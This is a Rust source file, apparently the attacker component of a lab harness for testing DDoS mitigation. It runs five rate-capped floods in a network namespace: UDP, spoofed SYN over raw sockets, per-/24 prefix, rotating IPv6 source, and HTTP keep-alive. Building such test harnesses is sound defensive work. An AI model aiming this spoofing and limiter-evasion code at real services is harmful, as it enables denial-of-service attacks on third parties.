//! The attacker: five floods run together for the whole of an attack phase, as one
//! multi-vector attack, each capped in rate and each stopping by itself at the phase's end.
//!
//! - **UDP flood** from the attacker's own address 10.77.2.66 to the API port.
//! - **Spoofed SYN flood**: hand-built TCP SYNs from random sources in 10.78.0.0/16, which the
//!   attacker routes to itself, through a raw IPv4 socket (`IPPROTO_RAW` implies
//!   `IP_HDRINCL`), so every packet claims a new source.
//! - **Prefix flood**: UDP datagrams from every address of one /24 (a botnet's block, which the
//!   attacker routes to itself), each source within its own limit, together far over what
//!   one prefix may send: only the aggregate limit stops it.
//! - **Rotating IPv6 flood**: hand-built UDP datagrams whose source changes every packet within
//!   the attacker's /64, through a raw IPv6 socket (for `IPPROTO_RAW` the kernel also takes the
//!   IPv6 header from us). Defeats a limiter that keys on exact IPv6 addresses.
//! - **HTTP flood** from 10.77.2.66: many keep-alive connections hammering the API with real
//!   requests, the attack that costs the service the most per packet.
//!
//! Packet counts are taken at the generator; the HTTP flood's packets (handshakes, requests,
//! acknowledgements, retransmissions) are whatever TCP sent, so the phase runner counts the
//! attacker interface's transmitted frames as the offered load.

use std::{
    io,
    net::{SocketAddr, SocketAddrV4, SocketAddrV6, UdpSocket},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail};
use serde::Serialize;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use tokio::{io::BufReader, net::TcpSocket, task::JoinSet};

use crate::{
    api, http,
    lab::{self, ATTACKER_NS},
    netns, packets, shutdown,
};

/// Keep-alive connections of the HTTP flood.
const HTTP_FLOOD_CONNECTIONS: usize = 64;
/// Packets handed to the kernel per pacing step: small enough to keep the rate smooth.
const PACING_BATCH: u64 = 32;
const PACING_SLEEP: Duration = Duration::from_micros(200);
/// Bytes of UDP payload in the packet floods.
const FLOOD_PAYLOAD_LEN: usize = 64;

/// How hard the attacker pushes.
#[derive(Clone, Copy, Debug, Serialize)]
pub struct AttackPlan {
    /// Packets per second of each packet flood (UDP, spoofed SYN, rotating IPv6).
    pub flood_pps: u32,
    /// Requests per second of the HTTP flood, over all its connections.
    pub http_requests_per_second: u32,
}

#[derive(Default)]
struct Counters {
    udp_packets: AtomicU64,
    syn_packets: AtomicU64,
    ipv6_packets: AtomicU64,
    prefix_packets: AtomicU64,
    http_connections: AtomicU64,
    http_requests: AtomicU64,
    http_responses: AtomicU64,
}

/// What the attacker sent during one phase.
#[derive(Clone, Copy, Debug, Default, Serialize)]
pub struct AttackTotals {
    pub udp_flood_packets: u64,
    pub spoofed_syn_packets: u64,
    pub rotating_ipv6_packets: u64,
    pub prefix_flood_packets: u64,
    /// Connections the HTTP flood managed to open.
    pub http_flood_connections: u64,
    pub http_flood_requests: u64,
    /// Requests the API answered with 200.
    pub http_flood_responses: u64,
}

impl AttackTotals {
    /// Packets of the four packet floods, all counted at the generator.
    pub fn packet_flood_packets(&self) -> u64 {
        self.udp_flood_packets
            + self.spoofed_syn_packets
            + self.rotating_ipv6_packets
            + self.prefix_flood_packets
    }
}

/// The floods of one phase, running.
pub struct Attack {
    stop: Arc<AtomicBool>,
    counters: Arc<Counters>,
    threads: Vec<thread::JoinHandle<Result<()>>>,
}

impl Attack {
    /// Starts every flood in the attacker namespace; each stops by itself at `until`.
    pub fn launch(plan: AttackPlan, until: Instant) -> Result<Self> {
        let stop = Arc::new(AtomicBool::new(false));
        let counters = Arc::new(Counters::default());
        let mut attack = Self {
            stop: stop.clone(),
            counters: counters.clone(),
            threads: Vec::new(),
        };
        let rate = f64::from(plan.flood_pps);
        {
            let (stop, counters) = (stop.clone(), counters.clone());
            attack
                .threads
                .push(netns::spawn_in(ATTACKER_NS, "udp-flood", move || {
                    udp_flood(rate, until, &stop, &counters.udp_packets)
                })?);
        }
        {
            let (stop, counters) = (stop.clone(), counters.clone());
            attack
                .threads
                .push(netns::spawn_in(ATTACKER_NS, "syn-flood", move || {
                    spoofed_syn_flood(rate, until, &stop, &counters.syn_packets)
                })?);
        }
        {
            let (stop, counters) = (stop.clone(), counters.clone());
            attack
                .threads
                .push(netns::spawn_in(ATTACKER_NS, "ipv6-flood", move || {
                    rotating_ipv6_flood(rate, until, &stop, &counters.ipv6_packets)
                })?);
        }
        {
            let (stop, counters) = (stop.clone(), counters.clone());
            attack
                .threads
                .push(netns::spawn_in(ATTACKER_NS, "prefix-flood", move || {
                    prefix_flood(rate, until, &stop, &counters.prefix_packets)
                })?);
        }
        {
            let http_rate = f64::from(plan.http_requests_per_second);
            attack
                .threads
                .push(netns::spawn_in(ATTACKER_NS, "http-flood", move || {
                    let runtime = tokio::runtime::Builder::new_current_thread()
                        .enable_all()
                        .build()
                        .context("start the HTTP flood's async runtime")?;
                    // One thread: every connection is made inside the attacker namespace.
                    runtime.block_on(http_flood(http_rate, until, stop, counters));
                    Ok(())
                })?);
        }
        Ok(attack)
    }

    /// Waits for every flood to end and returns what was sent.
    pub fn finish(mut self) -> Result<AttackTotals> {
        self.join_all()?;
        Ok(self.totals())
    }

    /// What has been sent so far.
    pub fn totals(&self) -> AttackTotals {
        let c = &self.counters;
        AttackTotals {
            udp_flood_packets: c.udp_packets.load(Ordering::Relaxed),
            spoofed_syn_packets: c.syn_packets.load(Ordering::Relaxed),
            rotating_ipv6_packets: c.ipv6_packets.load(Ordering::Relaxed),
            prefix_flood_packets: c.prefix_packets.load(Ordering::Relaxed),
            http_flood_connections: c.http_connections.load(Ordering::Relaxed),
            http_flood_requests: c.http_requests.load(Ordering::Relaxed),
            http_flood_responses: c.http_responses.load(Ordering::Relaxed),
        }
    }

    fn join_all(&mut self) -> Result<()> {
        let mut first_error = None;
        for handle in self.threads.drain(..) {
            if let Err(e) = netns::join(handle) {
                first_error.get_or_insert(e);
            }
        }
        first_error.map_or(Ok(()), Err)
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        // On an error path: stop now rather than at the phase's end.
        self.stop.store(true, Ordering::Relaxed);
        let _ = self.join_all();
    }
}

/// Paces sends to a fixed rate: by any moment `t` after the start, at most `rate × t`
/// packets have been issued.
struct Pacer {
    start: Instant,
    per_second: f64,
    issued: u64,
}

impl Pacer {
    fn new(per_second: f64) -> Self {
        Self {
            start: Instant::now(),
            per_second,
            issued: 0,
        }
    }

    /// How many packets may be issued at `now`, at most `batch`.
    fn allowance(&self, now: Instant, batch: u64) -> u64 {
        let due = (now.duration_since(self.start).as_secs_f64() * self.per_second) as u64;
        due.saturating_sub(self.issued).min(batch)
    }
}

/// Calls `send` at `per_second` until `until`, a stop request or Ctrl-C, counting the
/// packets the kernel accepted in `sent`.
fn paced(
    per_second: f64,
    until: Instant,
    stop: &AtomicBool,
    sent: &AtomicU64,
    mut send: impl FnMut() -> io::Result<usize>,
) -> Result<()> {
    let mut pacer = Pacer::new(per_second);
    loop {
        if stop.load(Ordering::Relaxed) || shutdown::requested() {
            return Ok(());
        }
        let now = Instant::now();
        if now >= until {
            return Ok(());
        }
        let allowed = pacer.allowance(now, PACING_BATCH);
        if allowed == 0 {
            thread::sleep(PACING_SLEEP);
            continue;
        }
        for _ in 0..allowed {
            // Every attempt uses up its slot, so a refused send never causes a burst later.
            pacer.issued += 1;
            match send() {
                Ok(_) => {
                    sent.fetch_add(1, Ordering::Relaxed);
                }
                // The lab's links are momentarily full, or an ICMP error reached the socket:
                // the packet is lost, the flood goes on.
                Err(e) if is_transient(&e) => {}
                Err(e) => return Err(e).context("send a flood packet"),
            }
        }
    }
}

fn is_transient(e: &io::Error) -> bool {
    matches!(
        e.raw_os_error(),
        Some(nix::libc::ENOBUFS | nix::libc::EAGAIN | nix::libc::ECONNREFUSED)
    )
}

fn udp_flood(per_second: f64, until: Instant, stop: &AtomicBool, sent: &AtomicU64) -> Result<()> {
    let socket = UdpSocket::bind(SocketAddr::new(lab::ATTACKER_V4.into(), 0))
        .context("bind the UDP flood's socket")?;
    let target = SocketAddr::new(lab::EDGE_V4.into(), lab::API_PORT);
    let payload = [0x5au8; FLOOD_PAYLOAD_LEN];
    paced(per_second, until, stop, sent, || {
        socket.send_to(&payload, target)
    })
}

/// A raw socket whose packets carry our own IP header (IPPROTO_RAW implies the header is
/// included, for IPv4 and IPv6 alike).
fn raw_socket(domain: Domain) -> Result<Socket> {
    Socket::new(
        domain,
        Type::RAW,
        Some(Protocol::from(nix::libc::IPPROTO_RAW)),
    )
    .context("open a raw socket (needs CAP_NET_RAW)")
}

fn spoofed_syn_flood(
    per_second: f64,
    until: Instant,
    stop: &AtomicBool,
    sent: &AtomicU64,
) -> Result<()> {
    let socket = raw_socket(Domain::IPV4)?;
    let target = SockAddr::from(SocketAddrV4::new(lab::EDGE_V4, 0));
    let (net, prefix_len) = lab::SPOOFED_V4_NET;
    if prefix_len != 16 {
        bail!("the spoofed range must be a /16");
    }
    let base = u32::from(net);
    let mut packet = [0u8; packets::IPV4_SYN_LEN];
    paced(per_second, until, stop, sent, || {
        let syn = packets::Syn {
            src: (base | u32::from(rand::random::<u16>())).into(),
            dst: lab::EDGE_V4,
            src_port: rand::random_range(1024..=u16::MAX),
            dst_port: lab::API_PORT,
            sequence: rand::random(),
            ip_id: rand::random(),
        };
        packets::write_ipv4_syn(&mut packet, &syn);
        socket.send_to(&packet, &target)
    })
}

fn rotating_ipv6_flood(
    per_second: f64,
    until: Instant,
    stop: &AtomicBool,
    sent: &AtomicU64,
) -> Result<()> {
    let socket = raw_socket(Domain::IPV6)?;
    let target = SockAddr::from(SocketAddrV6::new(lab::EDGE_V6, 0, 0, 0));
    let (net, prefix_len) = lab::ROTATING_V6_NET;
    if prefix_len != 64 {
        bail!("the rotating range must be a /64");
    }
    let network = u128::from(net);
    let payload = [0xa5u8; FLOOD_PAYLOAD_LEN];
    let mut packet = vec![0u8; packets::ipv6_udp_len(payload.len())];
    paced(per_second, until, stop, sent, || {
        let datagram = packets::Udp6 {
            // A new interface identifier for every packet, always inside the same /64.
            src: (network | u128::from(rand::random::<u64>())).into(),
            dst: lab::EDGE_V6,
            src_port: rand::random_range(1024..=u16::MAX),
            dst_port: lab::API_PORT,
        };
        packets::write_ipv6_udp(&mut packet, &datagram, &payload);
        socket.send_to(&packet, &target)
    })
}

fn prefix_flood(
    per_second: f64,
    until: Instant,
    stop: &AtomicBool,
    sent: &AtomicU64,
) -> Result<()> {
    let socket = raw_socket(Domain::IPV4)?;
    let target = SockAddr::from(SocketAddrV4::new(lab::EDGE_V4, 0));
    let (net, prefix_len) = lab::PREFIX_FLOOD_V4_NET;
    if prefix_len != 24 {
        bail!("the prefix flood's range must be a /24");
    }
    let payload = [0x3cu8; FLOOD_PAYLOAD_LEN];
    let mut packet = Vec::with_capacity(64 + payload.len());
    let mut host: u8 = 0;
    paced(per_second, until, stop, sent, || {
        // Every address of the /24 in turn (.1 to .254): each source sends 1/254 of the flood.
        host = host % 254 + 1;
        let mut src = net.octets();
        src[3] = host;
        packet.clear();
        etherparse::PacketBuilder::ipv4(src, lab::EDGE_V4.octets(), 64)
            .udp(rand::random_range(1024..=u16::MAX), lab::API_PORT)
            .write(&mut packet, &payload)
            .map_err(io::Error::other)?;
        socket.send_to(&packet, &target)
    })
}

async fn http_flood(
    per_second: f64,
    until: Instant,
    stop: Arc<AtomicBool>,
    counters: Arc<Counters>,
) {
    let until = tokio::time::Instant::from_std(until);
    let start = tokio::time::Instant::now();
    // Request n may go out at start + n / rate, whichever connection sends it: a hard cap on
    // the flood's total rate however many connections are up.
    let tickets = Arc::new(AtomicU64::new(0));
    let mut connections = JoinSet::new();
    for _ in 0..HTTP_FLOOD_CONNECTIONS {
        let (stop, counters, tickets) = (stop.clone(), counters.clone(), tickets.clone());
        connections.spawn(async move {
            let flood = hammer(start, until, per_second, &tickets, &stop, &counters);
            // Whatever it is waiting for, the connection ends at the phase's end.
            let _ = tokio::time::timeout_at(until, flood).await;
        });
    }
    while connections.join_next().await.is_some() {}
}

/// One keep-alive connection after another, each sending requests as fast as the tickets allow.
async fn hammer(
    start: tokio::time::Instant,
    until: tokio::time::Instant,
    per_second: f64,
    tickets: &AtomicU64,
    stop: &AtomicBool,
    counters: &Counters,
) {
    let target = SocketAddr::new(lab::EDGE_V4.into(), lab::API_PORT);
    let host = target.to_string();
    let stopped = || stop.load(Ordering::Relaxed) || shutdown::requested();
    while !stopped() {
        let connect = async {
            let socket = TcpSocket::new_v4()?;
            socket.bind(SocketAddr::new(lab::ATTACKER_V4.into(), 0))?;
            socket.connect(target).await
        };
        let stream = match tokio::time::timeout(Duration::from_secs(1), connect).await {
            Ok(Ok(stream)) => stream,
            _ => {
                // Refused or dropped: try again shortly, as a bot would.
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            }
        };
        counters.http_connections.fetch_add(1, Ordering::Relaxed);
        let mut stream = BufReader::new(stream);
        while !stopped() {
            let ticket = tickets.fetch_add(1, Ordering::Relaxed);
            let due = start + Duration::from_secs_f64(ticket as f64 / per_second);
            if due >= until {
                return;
            }
            tokio::time::sleep_until(due).await;
            counters.http_requests.fetch_add(1, Ordering::Relaxed);
            let response = tokio::time::timeout(
                Duration::from_secs(1),
                http::get(
                    &mut stream,
                    &host,
                    api::TICKER_PATH,
                    http::Connection::KeepAlive,
                ),
            )
            .await;
            match response {
                Ok(Ok(response)) => {
                    if response.status == 200 {
                        counters.http_responses.fetch_add(1, Ordering::Relaxed);
                    }
                    // Answered or refused (503 when the API is saturated), the bot asks again
                    // on the same connection: it wants the workers busy, not the answers.
                }
                // A stalled or broken connection: open a new one.
                _ => break,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pacer_never_runs_ahead_of_its_rate() {
        let mut pacer = Pacer::new(1000.0);
        let start = pacer.start;
        assert_eq!(pacer.allowance(start, 32), 0);
        let later = start + Duration::from_millis(10);
        assert_eq!(pacer.allowance(later, 32), 10);
        pacer.issued += 10;
        assert_eq!(pacer.allowance(later, 32), 0);
        // After a long pause the batch bounds what goes out at once.
        let much_later = start + Duration::from_secs(1);
        assert_eq!(pacer.allowance(much_later, 32), 32);
    }
}
